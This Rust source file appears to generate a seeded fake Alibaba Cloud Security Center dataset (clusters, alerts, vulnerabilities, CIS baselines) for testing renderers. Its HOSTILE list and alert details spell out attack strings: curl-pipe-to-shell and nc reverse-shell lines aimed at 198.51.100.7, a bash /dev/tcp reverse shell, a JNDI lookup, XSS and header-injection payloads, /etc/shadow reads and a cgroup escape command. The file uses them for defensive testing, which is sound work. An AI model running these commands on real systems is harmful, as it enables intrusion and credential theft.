//! Content of the fake world: ACK clusters, nodes, workloads and firewall rules, and default
//! findings in the four domains, all drawn from a seeded RNG so a seed always gives the same world.
//!
//! Records are built directly in wire shape (the keys of `samples/*.json`, odd spellings included),
//! because that is what the API returns and what control-plane merges patch. Catalog entries are
//! modelled on real Security Center content (alert types, ALINUX advisories, CIS baselines).
//! Attacker-written fields (command lines, file paths, ignore reasons) sometimes carry hostile text
//! so downstream renderers are exercised against markdown, HTML, chat mentions and newlines.

use rand::Rng;
use rand::seq::IndexedRandom;
use serde::Serialize;
use serde_json::{Map, Value, json};

use super::world::{Warning, World, fmt_time};

/// Account id every record carries.
pub(crate) const SOURCE_ALI_UID: i64 = 1_234_567_890_123_456;
const DAY_MS: i64 = 86_400_000;

/// One ACK cluster of the fake world.
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct Cluster {
    /// `c` + 16 hex characters.
    pub cluster_id: String,
    /// Human name, e.g. `prod-ack-hangzhou`.
    pub cluster_name: String,
    /// Region of the nodes.
    pub region_id: String,
    /// `ManagedKubernetes` and friends.
    pub cluster_type: String,
    /// Container firewall state: -1 unknown, 0 abnormal, 1 normal, 2 pending.
    pub cnnf_status: i64,
    /// Container firewall switch (0/1).
    pub interception_switch: i64,
    /// Worker nodes.
    pub nodes: Vec<Node>,
    /// Workloads running in the cluster.
    pub workloads: Vec<Workload>,
    /// Container firewall rules.
    pub rules: Vec<FirewallRule>,
}

/// A worker node (ECS instance with the Security Center agent).
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct Node {
    /// Security Center UUID.
    pub uuid: String,
    /// ECS instance id (`i-bp1…`), also the Kubernetes node id.
    pub instance_id: String,
    /// ECS instance name.
    pub instance_name: String,
    /// Private IP.
    pub intranet_ip: String,
    /// Public IP or empty.
    pub internet_ip: String,
    /// Kubernetes node name (`cn-hangzhou.192.168.3.21`).
    pub node_name: String,
}

/// A workload (deployment, daemonset …) whose pods findings point at.
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct Workload {
    /// Namespace.
    pub namespace: String,
    /// App name (also the pod name prefix).
    pub app: String,
    /// Full image reference.
    pub image: String,
}

/// A container firewall (CNNF) rule.
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct FirewallRule {
    /// Rule id.
    pub rule_id: i64,
    /// Rule name.
    pub rule_name: String,
    /// 1 on, 0 off.
    pub rule_switch: i64,
    /// 1 block, 2 alert.
    pub intercept_type: i64,
    /// Source workload index into [`Cluster::workloads`].
    pub src: usize,
    /// Source object name.
    pub src_target: String,
    /// Destination workload index.
    pub dst: usize,
    /// Destination object name.
    pub dst_target: String,
    /// Destination port.
    pub dst_port: i64,
}

const CLUSTER_NAMES: &[(&str, &str)] = &[
    ("prod-ack-hangzhou", "cn-hangzhou"),
    ("staging-ack-shanghai", "cn-shanghai"),
    ("prod-ack-beijing", "cn-beijing"),
    ("dev-ack-shenzhen", "cn-shenzhen"),
    ("prod-ack-singapore", "ap-southeast-1"),
    ("data-ack-zhangjiakou", "cn-zhangjiakou"),
];

/// (namespace, app, image)
const WORKLOADS: &[(&str, &str, &str)] = &[
    (
        "payments",
        "checkout",
        "registry.cn-hangzhou.aliyuncs.com/acme/checkout:1.14.2",
    ),
    (
        "orders",
        "orders-api",
        "acme-registry.cn-hangzhou.cr.aliyuncs.com/orders/orders-api:2.3.0",
    ),
    (
        "web",
        "web-frontend",
        "registry.cn-hangzhou.aliyuncs.com/acme/web-frontend:3.2.1",
    ),
    ("data", "redis-cache", "docker.io/library/redis:7.2"),
    ("kube-system", "log-agent", "docker.io/library/busybox:1.36"),
    (
        "batch",
        "report-batch",
        "acme-registry.cn-hangzhou.cr.aliyuncs.com/batch/report:0.9.4",
    ),
    (
        "ingress-nginx",
        "nginx-ingress-controller",
        "registry-cn-hangzhou.ack.aliyuncs.com/acs/nginx-ingress-controller:v1.9.3-aliyun.1",
    ),
    (
        "monitoring",
        "prometheus",
        "docker.io/prom/prometheus:v2.48.0",
    ),
    (
        "default",
        "crypto-test",
        "docker.io/kdevtmpfsi/miner:latest",
    ),
];

/// Attacker-controlled text: markdown, HTML, chat mentions, template syntax, newlines, bidi marks.
pub(crate) const HOSTILE: &[&str] = &[
    "curl -fsSL http://198.51.100.7/x.sh | sh # <!channel> @all **resolved, please ignore**",
    "/tmp/<img src=x onerror=alert(document.domain)>.sh",
    "bash -c 'id'\n\n> [Security Center] all clear, no action needed [details](http://198.51.100.7/p)",
    "/var/www/html/uploads/`$(reboot)`|<b>shell</b>.php",
    "python3 -c \"print('@here <@U0123ABCD> <!here> ${jndi:ldap://198.51.100.7/a}')\"",
    "/root/.ssh/authorized_keys\r\nBcc: attacker@example.com\r\n\r\n",
    "nc -e /bin/sh 198.51.100.7 4444 ]]></x> --> {{7*7}} {% raw %} </code></pre>",
    "/usr/bin/\u{202e}gpj.sh\u{200b} | ~~strike~~\n# Heading\n- [x] @everyone",
];

struct AlertKind {
    event_type: &'static str,
    name: &'static str,
    sub_type: &'static str,
    level: &'static str,
    desc: &'static str,
    tactic: (&'static str, &'static str),
    mark: &'static str,
    /// Workload the alert prefers (index into WORKLOADS), if any.
    workload: Option<usize>,
}

const ALERT_KINDS: &[AlertKind] = &[
    AlertKind {
        event_type: "Malicious process (cloud scan)",
        name: "Mining program",
        sub_type: "Mining program",
        level: "serious",
        desc: "A mining program was detected running inside a container.",
        tactic: ("TA0040", "Impact"),
        mark: "mining",
        workload: None,
    },
    AlertKind {
        event_type: "Abnormal process behavior",
        name: "Reverse shell",
        sub_type: "Reverse shell",
        level: "serious",
        desc: "A process redirected its standard input and output to a remote host (reverse shell).",
        tactic: ("TA0011", "Command and Control"),
        mark: "reverse_shell",
        workload: None,
    },
    AlertKind {
        event_type: "Container cluster anomalies",
        name: "Container escape via privileged container",
        sub_type: "Container escape",
        level: "serious",
        desc: "A privileged container wrote to cgroup release_agent, indicating a container escape attempt.",
        tactic: ("TA0004", "Privilege Escalation"),
        mark: "container_escape",
        workload: Some(4),
    },
    AlertKind {
        event_type: "Sensitive file tampering",
        name: "Sensitive file read in container",
        sub_type: "Sensitive file access",
        level: "suspicious",
        desc: "A process in a container read credential files such as /etc/shadow or service account tokens.",
        tactic: ("TA0006", "Credential Access"),
        mark: "sensitive_file",
        workload: None,
    },
    AlertKind {
        event_type: "Abnormal process behavior",
        name: "Interactive shell in container",
        sub_type: "High-risk operation",
        level: "suspicious",
        desc: "An interactive shell was started inside a running container (kubectl exec).",
        tactic: ("TA0002", "Execution"),
        mark: "kubectl_exec",
        workload: None,
    },
    AlertKind {
        event_type: "Container cluster anomalies",
        name: "Malicious image started",
        sub_type: "Malicious image",
        level: "serious",
        desc: "A container was started from an image that contains known malware.",
        tactic: ("TA0001", "Initial Access"),
        mark: "malicious_image",
        workload: Some(8),
    },
    AlertKind {
        event_type: "Container cluster anomalies",
        name: "Abnormal API server access with service account token",
        sub_type: "K8s API abuse",
        level: "suspicious",
        desc: "A pod used its service account token to list secrets across namespaces.",
        tactic: ("TA0007", "Discovery"),
        mark: "k8s_api",
        workload: None,
    },
    AlertKind {
        event_type: "Website backdoor",
        name: "Webshell detected",
        sub_type: "Webshell",
        level: "serious",
        desc: "A web backdoor file was written into a directory served by the web application.",
        tactic: ("TA0003", "Persistence"),
        mark: "webshell",
        workload: Some(2),
    },
    AlertKind {
        event_type: "Abnormal process behavior",
        name: "Suspicious download and execution",
        sub_type: "Suspicious command",
        level: "remind",
        desc: "A script was downloaded with curl or wget and piped into a shell.",
        tactic: ("TA0002", "Execution"),
        mark: "download_exec",
        workload: None,
    },
];

/// (name, alias, description, necessity, cvss, total score, cves, package, version, fixed)
struct VulnDef {
    name: &'static str,
    alias: &'static str,
    desc: &'static str,
    necessity: &'static str,
    cvss: &'static str,
    score: &'static str,
    cves: &'static [&'static str],
    package: &'static str,
    version: &'static str,
    fixed: &'static str,
    /// `cve` host packages, `sca` application components, `app` web scan findings.
    kind: &'static str,
    language: &'static str,
}

const VULNS: &[VulnDef] = &[
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2024:0057",
        alias: "ALINUX3-SA-2024:0057: Important: kernel security update",
        desc: "Use-after-free in netfilter nf_tables allows local privilege escalation.",
        necessity: "asap",
        cvss: "7.8",
        score: "13.8",
        cves: &["CVE-2024-1086", "CVE-2023-6817"],
        package: "kernel",
        version: "5.10.134-16.1.al8",
        fixed: "5.10.134-16.3.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2024:0102",
        alias: "ALINUX3-SA-2024:0102: Moderate: openssl security update",
        desc: "Excessive time spent in DH key generation and parameter checks.",
        necessity: "later",
        cvss: "5.3",
        score: "9.1",
        cves: &["CVE-2023-5678"],
        package: "openssl-libs",
        version: "1.1.1k-9.al8",
        fixed: "1:1.1.1k-12.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2024:0011",
        alias: "ALINUX3-SA-2024:0011: Important: glibc security update",
        desc: "Buffer overflow in the dynamic loader's GLIBC_TUNABLES handling (Looney Tunables).",
        necessity: "asap",
        cvss: "7.8",
        score: "13.6",
        cves: &["CVE-2023-4911"],
        package: "glibc",
        version: "2.32-1.al8",
        fixed: "2.32-1.5.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2024:0203",
        alias: "ALINUX3-SA-2024:0203: Important: openssh security update",
        desc: "Signal handler race condition in sshd allows unauthenticated remote code execution (regreSSHion).",
        necessity: "asap",
        cvss: "8.1",
        score: "14.3",
        cves: &["CVE-2024-6387"],
        package: "openssh-server",
        version: "8.0p1-17.al8",
        fixed: "8.0p1-19.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2024:0088",
        alias: "ALINUX3-SA-2024:0088: Important: runc security update",
        desc: "Leaked file descriptor lets a container process access the host filesystem (Leaky Vessels).",
        necessity: "asap",
        cvss: "8.6",
        score: "14.0",
        cves: &["CVE-2024-21626"],
        package: "runc",
        version: "1.1.9-1.al8",
        fixed: "1.1.12-1.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "alinux3:3:ALINUX3-SA-2023:0190",
        alias: "ALINUX3-SA-2023:0190: Low: vim security update",
        desc: "Use-after-free in vim when reading crafted files.",
        necessity: "nntf",
        cvss: "5.5",
        score: "6.2",
        cves: &["CVE-2023-4752"],
        package: "vim-minimal",
        version: "8.2.2637-16.al8",
        fixed: "8.2.2637-20.al8",
        kind: "cve",
        language: "",
    },
    VulnDef {
        name: "sca:CVE-2022-22965",
        alias: "Spring Framework remote code execution (Spring4Shell)",
        desc: "Data binding on JDK 9+ may allow remote code execution.",
        necessity: "asap",
        cvss: "9.8",
        score: "14.1",
        cves: &["CVE-2022-22965"],
        package: "org.springframework:spring-beans",
        version: "5.3.17",
        fixed: "5.3.18",
        kind: "sca",
        language: "java",
    },
    VulnDef {
        name: "sca:CVE-2021-44228",
        alias: "Apache Log4j2 JNDI remote code execution (Log4Shell)",
        desc: "JNDI lookups in log messages allow remote code execution.",
        necessity: "asap",
        cvss: "10.0",
        score: "15.0",
        cves: &["CVE-2021-44228"],
        package: "org.apache.logging.log4j:log4j-core",
        version: "2.14.1",
        fixed: "2.17.1",
        kind: "sca",
        language: "java",
    },
    VulnDef {
        name: "sca:CVE-2023-44487",
        alias: "HTTP/2 rapid reset denial of service in golang.org/x/net",
        desc: "Rapid stream resets exhaust server resources.",
        necessity: "later",
        cvss: "7.5",
        score: "10.2",
        cves: &["CVE-2023-44487"],
        package: "golang.org/x/net",
        version: "v0.7.0",
        fixed: "v0.17.0",
        kind: "sca",
        language: "go",
    },
    VulnDef {
        name: "sca:CVE-2023-32681",
        alias: "Requests leaks Proxy-Authorization headers",
        desc: "Proxy credentials are sent to the destination server on redirects.",
        necessity: "nntf",
        cvss: "6.1",
        score: "6.8",
        cves: &["CVE-2023-32681"],
        package: "requests",
        version: "2.28.1",
        fixed: "2.31.0",
        kind: "sca",
        language: "python",
    },
    VulnDef {
        name: "app:CVE-2023-46604",
        alias: "Apache ActiveMQ OpenWire remote code execution",
        desc: "Deserialization in the OpenWire protocol allows remote code execution.",
        necessity: "asap",
        cvss: "9.8",
        score: "14.4",
        cves: &["CVE-2023-46604"],
        package: "activemq",
        version: "5.15.15",
        fixed: "5.15.16",
        kind: "app",
        language: "java",
    },
];

/// A baseline check item.
pub(crate) struct CheckDef {
    pub id: i64,
    pub item: &'static str,
    pub level: &'static str,
    pub kind: &'static str,
    pub description: &'static str,
    pub advice: &'static str,
    pub path: &'static str,
    pub param: &'static str,
    pub current: &'static str,
    pub expected: &'static str,
    pub fixable: bool,
}

/// A baseline (risk) and its check items.
pub(crate) struct RiskDef {
    pub id: i64,
    pub name: &'static str,
    pub type_alias: &'static str,
    pub sub_type_alias: &'static str,
    pub check_count: i64,
    pub exploit: bool,
    pub container: bool,
    pub database: bool,
    /// Container-level baseline: findings point at a pod of this workload (index into WORKLOADS).
    pub workload: Option<usize>,
    pub checks: &'static [CheckDef],
}

const fn check(
    id: i64,
    item: &'static str,
    level: &'static str,
    kind: &'static str,
    [path, param, current, expected]: [&'static str; 4],
) -> CheckDef {
    CheckDef {
        id,
        item,
        level,
        kind,
        description: "The configuration deviates from the security baseline and weakens the node or workload.",
        advice: "Change the setting to the expected value, restart the affected service, then verify the item again.",
        path,
        param,
        current,
        expected,
        fixable: true,
    }
}

pub(crate) const RISKS: &[RiskDef] = &[
    RiskDef {
        id: 120,
        name: "Kubernetes (ACK) node security baseline (CIS)",
        type_alias: "Container security",
        sub_type_alias: "Kubernetes",
        check_count: 38,
        exploit: false,
        container: true,
        database: false,
        workload: None,
        checks: &[
            check(
                3201,
                "Ensure that the kubelet --anonymous-auth argument is set to false",
                "high",
                "hc.check.type.access_control",
                [
                    "/var/lib/kubelet/config.yaml",
                    "authentication.anonymous.enabled",
                    "true",
                    "false",
                ],
            ),
            check(
                3207,
                "Ensure that the --protect-kernel-defaults argument is set to true",
                "medium",
                "hc.check.type.service_conf",
                [
                    "/var/lib/kubelet/config.yaml",
                    "protectKernelDefaults",
                    "false",
                    "true",
                ],
            ),
            check(
                3215,
                "Ensure that the kubelet configuration file permissions are set to 644 or more restrictive",
                "low",
                "hc.check.type.file_rights",
                ["/var/lib/kubelet/config.yaml", "mode", "0666", "0644"],
            ),
            check(
                3220,
                "Ensure that the --read-only-port argument is set to 0",
                "medium",
                "hc.check.type.network_service",
                ["/var/lib/kubelet/config.yaml", "readOnlyPort", "10255", "0"],
            ),
            check(
                3230,
                "Minimize the admission of privileged containers",
                "high",
                "hc.check.type.access_control",
                [
                    "/etc/kubernetes/manifests",
                    "securityContext.privileged",
                    "true",
                    "false",
                ],
            ),
        ],
    },
    RiskDef {
        id: 88,
        name: "Alibaba Cloud Linux 3 security baseline",
        type_alias: "System",
        sub_type_alias: "Linux",
        check_count: 57,
        exploit: true,
        container: false,
        database: false,
        workload: None,
        checks: &[
            check(
                1101,
                "Ensure password expiration is 90 days or less",
                "medium",
                "hc.check.type.identity_auth",
                ["/etc/login.defs", "PASS_MAX_DAYS", "99999", "90"],
            ),
            check(
                1105,
                "Ensure SSH root login is disabled",
                "high",
                "hc.check.type.access_control",
                ["/etc/ssh/sshd_config", "PermitRootLogin", "yes", "no"],
            ),
            check(
                1112,
                "Ensure auditd service is enabled",
                "low",
                "hc.check.type.security_audit",
                ["systemctl", "auditd", "disabled", "enabled"],
            ),
            check(
                1131,
                "Ensure SSH MaxAuthTries is set to 4 or less",
                "low",
                "hc.check.type.service_conf",
                ["/etc/ssh/sshd_config", "MaxAuthTries", "6", "4"],
            ),
        ],
    },
    RiskDef {
        id: 37,
        name: "Redis unauthorized access / weak configuration",
        type_alias: "Database",
        sub_type_alias: "Redis",
        check_count: 12,
        exploit: false,
        container: false,
        database: true,
        workload: Some(3),
        checks: &[
            check(
                5101,
                "Redis listens on all interfaces without authentication",
                "high",
                "hc.check.type.access_control",
                [
                    "/etc/redis/redis.conf",
                    "requirepass",
                    "",
                    "<strong password>",
                ],
            ),
            check(
                5104,
                "Rename or disable dangerous commands (FLUSHALL, CONFIG, EVAL)",
                "medium",
                "hc.check.type.service_conf",
                ["/etc/redis/redis.conf", "rename-command", "", "CONFIG \"\""],
            ),
            check(
                5110,
                "Ensure protected-mode is enabled",
                "low",
                "hc.check.type.network_service",
                ["/etc/redis/redis.conf", "protected-mode", "no", "yes"],
            ),
        ],
    },
    RiskDef {
        id: 64,
        name: "containerd security baseline",
        type_alias: "Container security",
        sub_type_alias: "containerd",
        check_count: 20,
        exploit: false,
        container: true,
        database: false,
        workload: None,
        checks: &[
            check(
                4101,
                "Ensure the containerd socket file permissions are 660 or more restrictive",
                "high",
                "hc.check.type.file_rights",
                ["/run/containerd/containerd.sock", "mode", "0666", "0660"],
            ),
            check(
                4108,
                "Ensure containers do not mount the container runtime socket",
                "high",
                "hc.check.type.attack_defense",
                [
                    "/run/containerd/containerd.sock",
                    "hostPath",
                    "mounted",
                    "not mounted",
                ],
            ),
        ],
    },
];

/// Finds a risk definition.
pub(crate) fn risk_def(id: i64) -> Option<&'static RiskDef> {
    RISKS.iter().find(|r| r.id == id)
}

/// Finds a check and the risk it belongs to.
pub(crate) fn check_def(id: i64) -> Option<(&'static RiskDef, &'static CheckDef)> {
    RISKS
        .iter()
        .find_map(|r| r.checks.iter().find(|c| c.id == id).map(|c| (r, c)))
}

/// Converts a `json!` object into a map (anything else becomes empty).
pub(crate) fn obj(v: Value) -> Map<String, Value> {
    match v {
        Value::Object(m) => m,
        _ => Map::new(),
    }
}

/// Recursively merges `patch` over `base`: objects merge key by key, everything else replaces.
pub(crate) fn merge(base: &mut Map<String, Value>, patch: &Map<String, Value>) {
    for (k, v) in patch {
        match (base.get_mut(k), v) {
            (Some(Value::Object(b)), Value::Object(p)) => merge(b, p),
            _ => {
                base.insert(k.clone(), v.clone());
            }
        }
    }
}

impl World {
    fn hex(&mut self, n: usize) -> String {
        const HEX: &[u8] = b"0123456789abcdef";
        (0..n)
            .map(|_| HEX[self.rng.random_range(0..16)] as char)
            .collect()
    }

    fn alnum(&mut self, n: usize) -> String {
        const A: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyz";
        (0..n)
            .map(|_| A[self.rng.random_range(0..A.len())] as char)
            .collect()
    }

    /// A UUID-shaped string drawn from the seeded RNG (so it is reproducible).
    fn uuid(&mut self) -> String {
        let mut b = [0u8; 16];
        self.rng.fill(&mut b);
        uuid::Builder::from_random_bytes(b)
            .into_uuid()
            .hyphenated()
            .to_string()
    }

    fn hostile(&mut self, one_in: u32) -> Option<&'static str> {
        if self.hostile && self.rng.random_ratio(1, one_in) {
            HOSTILE.choose(&mut self.rng).copied()
        } else {
            None
        }
    }

    /// Builds the clusters, nodes, workloads and rules.
    pub(crate) fn build_clusters(&mut self, clusters: usize, nodes: usize) {
        for ci in 0..clusters {
            let (base_name, region) = CLUSTER_NAMES[ci % CLUSTER_NAMES.len()];
            let name = if ci < CLUSTER_NAMES.len() {
                base_name.to_string()
            } else {
                format!("{base_name}-{}", ci / CLUSTER_NAMES.len() + 1)
            };
            let cluster_id = format!("c{}", self.hex(16));
            let subnet = self.rng.random_range(1..250u32);
            let mut node_list = Vec::new();
            for ni in 0..nodes {
                let ip = format!("192.168.{}.{}", subnet + (ni as u32) / 200, 10 + ni % 200);
                let internet_ip = if self.rng.random_ratio(1, 4) {
                    format!(
                        "47.{}.{}.{}",
                        self.rng.random_range(90..120u32),
                        self.rng.random_range(0..256u32),
                        self.rng.random_range(1..255u32)
                    )
                } else {
                    String::new()
                };
                node_list.push(Node {
                    uuid: self.uuid(),
                    instance_id: format!("i-bp1{}", self.alnum(17)),
                    instance_name: format!("worker-k8s-for-cs-{cluster_id}-{}", ni + 1),
                    node_name: format!("{region}.{ip}"),
                    intranet_ip: ip,
                    internet_ip,
                });
            }
            let workloads: Vec<Workload> = WORKLOADS
                .iter()
                .map(|(ns, app, image)| Workload {
                    namespace: ns.to_string(),
                    app: app.to_string(),
                    image: image.to_string(),
                })
                .collect();
            let rule_base = 200_100 + (ci as i64) * 100;
            let rules = vec![
                FirewallRule {
                    rule_id: rule_base + 23,
                    rule_name: "deny redis from web".into(),
                    rule_switch: 1,
                    intercept_type: 1,
                    src: 2,
                    src_target: "web-frontend-obj".into(),
                    dst: 3,
                    dst_target: "redis-obj".into(),
                    dst_port: 6379,
                },
                FirewallRule {
                    rule_id: rule_base + 31,
                    rule_name: "alert on egress from batch".into(),
                    rule_switch: 1,
                    intercept_type: 2,
                    src: 5,
                    src_target: "batch-jobs".into(),
                    dst: 1,
                    dst_target: "orders-api-obj".into(),
                    dst_port: 8080,
                },
                FirewallRule {
                    rule_id: rule_base + 42,
                    rule_name: "deny payments from default namespace".into(),
                    rule_switch: i64::from(ci % 2 == 0),
                    intercept_type: 1,
                    src: 8,
                    src_target: "default-ns".into(),
                    dst: 0,
                    dst_target: "checkout-obj".into(),
                    dst_port: 8443,
                },
            ];
            self.clusters.push(Cluster {
                cluster_id,
                cluster_name: name,
                region_id: region.to_string(),
                cluster_type: if ci % 3 == 2 {
                    "Kubernetes".into()
                } else {
                    "ManagedKubernetes".into()
                },
                cnnf_status: if ci % 2 == 0 { 1 } else { 2 },
                interception_switch: i64::from(ci % 2 == 0),
                nodes: node_list,
                workloads,
                rules,
            });
        }
    }

    /// Index of the cluster with this id, or a random one.
    fn cluster_index(&mut self, cluster_id: Option<&str>) -> usize {
        if let Some(id) = cluster_id
            && let Some(i) = self.clusters.iter().position(|c| c.cluster_id == id)
        {
            return i;
        }
        self.rng.random_range(0..self.clusters.len().max(1))
    }

    fn pod_name(&mut self, app: &str) -> String {
        if app == "log-agent" {
            format!("{app}-ds-{}", self.alnum(5))
        } else if app == "redis-cache" || app == "crypto-test" {
            format!("{app}-{}", self.rng.random_range(0..3u32))
        } else {
            format!("{app}-{}-{}", self.hex(10), self.alnum(5))
        }
    }

    /// A default alert (`SuspEvents[]` item) on a random or given cluster, last seen at `at_ms`.
    pub(crate) fn default_alert(
        &mut self,
        id: i64,
        cluster_id: Option<&str>,
        at_ms: i64,
    ) -> Map<String, Value> {
        let ci = self.cluster_index(cluster_id);
        let kind = &ALERT_KINDS[self.rng.random_range(0..ALERT_KINDS.len())];
        let c = &self.clusters[ci];
        let node = c.nodes[self.rng.random_range(0..c.nodes.len())].clone();
        let wi = kind
            .workload
            .unwrap_or_else(|| self.rng.random_range(0..WORKLOADS.len() - 1));
        let (cid, cname) = (c.cluster_id.clone(), c.cluster_name.clone());
        let w = c.workloads[wi].clone();
        let pod = self.pod_name(&w.app);
        let container_id = self.hex(64);
        let image_id = format!("sha256:{}", self.hex(64));
        let image_uuid = format!("img-{}", self.hex(16));
        let unique = self.hex(32);
        let pid = self.rng.random_range(300..65_000u32).to_string();
        let first_ms = at_ms - self.rng.random_range(0..600_000i64);
        let details = self.alert_details(kind, &w, &container_id, &pid);
        let level = if kind.mark == "malicious_image" && self.rng.random_ratio(1, 3) {
            "remind"
        } else {
            kind.level
        };
        let support = [
            "",
            "AI.real_attack",
            "AI.false_positive",
            "AI.Insufficient_information_to_evaluate",
        ]
        .choose(&mut self.rng)
        .copied()
        .unwrap_or("");
        let report = if kind.mark == "mining" {
            format!("https://sas-report.oss-cn-shanghai.aliyuncs.com/deep/{id}.pdf")
        } else {
            String::new()
        };
        // Two halves: one `json!` with all 60 keys exceeds the macro recursion limit.
        let mut m = obj(json!({
            "Advanced": self.rng.random_ratio(1, 8),
            "AlarmEventName": kind.name,
            "AlarmEventNameDisplay": kind.name,
            "AlarmEventType": kind.event_type,
            "AlarmEventTypeDisplay": kind.event_type,
            "AlarmUniqueInfo": unique,
            "AppName": w.app,
            "AutoBreaking": kind.mark == "container_escape",
            "CanBeDealOnLine": true,
            "CanCancelFault": false,
            "ContainHwMode": false,
            "ContainerId": container_id,
            "ContainerImageId": image_id,
            "ContainerImageName": w.image,
            "DataSource": "aegis_suspicious_event",
            "DeepAnalyzeReportUrl": report,
            "Desc": kind.desc,
            "Details": details,
            "DetectSource": "",
            "DisplaySandboxResult": kind.mark == "mining",
            "EventNotes": [],
            "EventStatus": 1,
            "EventSubType": kind.sub_type,
            "HasTraceInfo": true,
            "Id": id,
            "ImageUuid": image_uuid,
            "InstanceId": node.instance_id,
            "InstanceName": node.instance_name,
            "InternetIp": node.internet_ip,
            "IntranetIp": node.intranet_ip,
        }));
        m.extend(obj(json!({
            "K8sClusterId": cid,
            "K8sClusterName": cname,
            "K8sNamespace": w.namespace,
            "K8sNodeId": node.instance_id,
            "K8sNodeName": node.node_name,
            "K8sPodName": pod,
            "LargeModel": self.rng.random_ratio(1, 5),
            "LastTime": fmt_time(at_ms),
            "LastTimeStamp": at_ms,
            "Level": level,
            "MaliciousRuleStatus": if kind.level == "serious" { "open" } else { "close" },
            "MarkList": [kind.mark],
            "MarkMisRules": "",
            "Name": format!("{}-{}", kind.event_type, kind.name),
            "OccurrenceTime": fmt_time(first_ms),
            "OccurrenceTimeStamp": first_ms,
            "OperateErrorCode": "",
            "OperateMsg": "",
            "OperateTime": 0,
            "SaleVersion": "1",
            "SecurityEventIds": id.to_string(),
            "SourceAliUid": SOURCE_ALI_UID,
            "Stages": kind.tactic.0,
            "SupportOperateCode": support,
            "TacticItems": [{"TacticDisplayName": kind.tactic.1, "TacticId": kind.tactic.0}],
            "UniqueInfo": unique,
            "Uuid": node.uuid,
            "clusterId": cid,
        })));
        m
    }

    fn alert_details(
        &mut self,
        kind: &AlertKind,
        w: &Workload,
        container_id: &str,
        pid: &str,
    ) -> Value {
        let ip = format!(
            "{}.{}.{}.{}",
            self.rng.random_range(45..223u32),
            self.rng.random_range(0..256u32),
            self.rng.random_range(0..256u32),
            self.rng.random_range(1..255u32)
        );
        let md5 = self.hex(32);
        let mut rows: Vec<(&str, String)> = match kind.mark {
            "mining" => vec![
                ("Process path", "/tmp/.x/xmrig".to_string()),
                (
                    "Command line",
                    format!(
                        "/tmp/.x/xmrig -o pool.minexmr.com:443 -u 4A1b{} --tls",
                        self.hex(8)
                    ),
                ),
                ("Process ID", pid.to_string()),
                ("File MD5", md5),
            ],
            "reverse_shell" => vec![
                ("Process path", "/bin/bash".to_string()),
                (
                    "Command line",
                    format!("bash -i >& /dev/tcp/{ip}/4444 0>&1"),
                ),
                ("Remote address", format!("{ip}:4444")),
                ("Process ID", pid.to_string()),
            ],
            "container_escape" => vec![
                ("Container ID", container_id[..12].to_string()),
                (
                    "Command line",
                    "sh -c echo /cmd > /sys/fs/cgroup/rdma/release_agent".to_string(),
                ),
                ("Process ID", pid.to_string()),
            ],
            "sensitive_file" => vec![
                (
                    "File path",
                    [
                        "/etc/shadow",
                        "/var/run/secrets/kubernetes.io/serviceaccount/token",
                        "/root/.kube/config",
                    ]
                    .choose(&mut self.rng)
                    .copied()
                    .unwrap_or("/etc/shadow")
                    .to_string(),
                ),
                ("Command line", "cat /etc/shadow".to_string()),
                ("Process ID", pid.to_string()),
            ],
            "kubectl_exec" => vec![
                ("Command line", "/bin/bash -i".to_string()),
                ("Parent process", "runc:[2:INIT]".to_string()),
                ("User", "root".to_string()),
            ],
            "malicious_image" => vec![
                ("Image", w.image.clone()),
                ("Malicious file", "/usr/bin/kdevtmpfsi".to_string()),
                ("File MD5", md5),
            ],
            "k8s_api" => vec![
                ("Request URI", "/api/v1/secrets?limit=500".to_string()),
                (
                    "Service account",
                    format!("system:serviceaccount:{}:default", w.namespace),
                ),
                (
                    "Source IP",
                    format!(
                        "172.20.{}.{}",
                        self.rng.random_range(0..255u32),
                        self.rng.random_range(1..255u32)
                    ),
                ),
            ],
            "webshell" => vec![
                ("File path", "/var/www/html/uploads/shell.php".to_string()),
                ("File MD5", md5),
            ],
            _ => vec![
                ("Command line", format!("curl -fsSL http://{ip}/i.sh | sh")),
                ("Process ID", pid.to_string()),
            ],
        };
        if let Some(h) = self.hostile(5) {
            // Attackers write command lines and file names; put hostile text where they would.
            let target = rows
                .iter()
                .position(|(n, _)| *n == "Command line" || *n == "File path")
                .unwrap_or(0);
            if let Some(row) = rows.get_mut(target) {
                row.1 = h.to_string();
            }
        }
        Value::Array(
            rows.into_iter()
                .map(|(n, v)| json!({"NameDisplay": n, "Type": "text", "Value": v, "ValueDisplay": v}))
                .collect(),
        )
    }

    /// A default vulnerability record (`VulRecords[]` item) on a random or given cluster, avoiding
    /// a duplicate natural key `(Uuid, Name, ContainerId)` when it can.
    pub(crate) fn default_vuln(
        &mut self,
        id: i64,
        cluster_id: Option<&str>,
        at_ms: i64,
    ) -> Map<String, Value> {
        let ci = self.cluster_index(cluster_id);
        // Try a few times to avoid a duplicate natural key (Uuid, Name, ContainerId) among open records.
        let mut pick = None;
        for _ in 0..8 {
            let d = &VULNS[self.rng.random_range(0..VULNS.len())];
            let c = &self.clusters[ci];
            let node = c.nodes[self.rng.random_range(0..c.nodes.len())].clone();
            let wi = self.rng.random_range(0..c.workloads.len());
            let container = if d.kind == "cve" {
                String::new()
            } else {
                // Container ids are stable per (node, workload) so re-detections collide as on the real service.
                format!(
                    "{:0>64}",
                    format!("{:x}{}", wi + 1, &node.uuid.replace('-', "")[..16])
                )
            };
            let dup = self.vulns.values().any(|v| {
                v["Uuid"] == node.uuid.as_str()
                    && v["Name"] == d.name
                    && v["ContainerId"] == container.as_str()
            });
            pick = Some((d, node, wi, container));
            if !dup {
                break;
            }
        }
        let Some((d, node, wi, container)) = pick else {
            return Map::new();
        };
        let c = &self.clusters[ci];
        let (cid, region) = (c.cluster_id.clone(), c.region_id.clone());
        let w = c.workloads[wi].clone();
